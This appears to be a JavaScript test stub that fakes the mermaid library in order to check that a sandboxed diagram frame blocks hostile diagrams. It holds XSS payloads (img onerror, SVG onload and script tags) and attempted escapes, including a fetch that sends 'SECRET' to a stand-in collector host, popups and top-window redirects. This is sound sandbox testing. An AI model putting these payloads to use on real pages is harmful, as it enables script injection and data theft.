// Stands in for mermaid in the test of the frame: draws the text it gets, and tries what a hostile diagram would.
globalThis.mermaid = {
  initialize(settings) {
    this.settings = settings
  },
  async render(id, code) {
    if (code.startsWith('wrong')) throw new Error('Parse error on line 1: <img src=x onerror=alert(1)>')
    if (code.startsWith('endless')) return new Promise(() => {})
    const attempts = {}
    const attempt = async (name, work) => {
      try {
        await work()
        attempts[name] = 'done'
      } catch {
        attempts[name] = 'refused'
      }
    }
    if (code.startsWith('hostile')) {
      await attempt('parent', () => parent.document.body)
      await attempt('storage', () => localStorage.setItem('a', 'b'))
      await attempt('cookie', () => {
        document.cookie = 'a=b'
      })
      await attempt('fetch', () => fetch('https://collect.example/?q=SECRET'))
      await attempt('top', () => (top.location.href = 'https://collect.example/'))
      await attempt('popup', () => {
        if (open('https://collect.example/') === null) throw new Error('refused')
      })
      await attempt('image', () => {
        const image = new Image()
        return new Promise((resolve, reject) =>
          Object.assign(image, { onload: resolve, onerror: reject, src: 'https://collect.example/a.png' }),
        )
      })
    }
    const width = /^wide (\d+)/.exec(code)?.[1] ?? 200
    const text = JSON.stringify({
      id,
      code,
      attempts,
      level: this.settings.securityLevel,
      secure: this.settings.secure,
    }).replace(/[<&]/g, '.')
    return {
      svg: `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 ${width} 100" onload="alert(1)"><script>alert(2)</script><image href="https://collect.example/a.png" width="9" height="9"/><text y="20">${text}</text></svg>`,
    }
  },
}
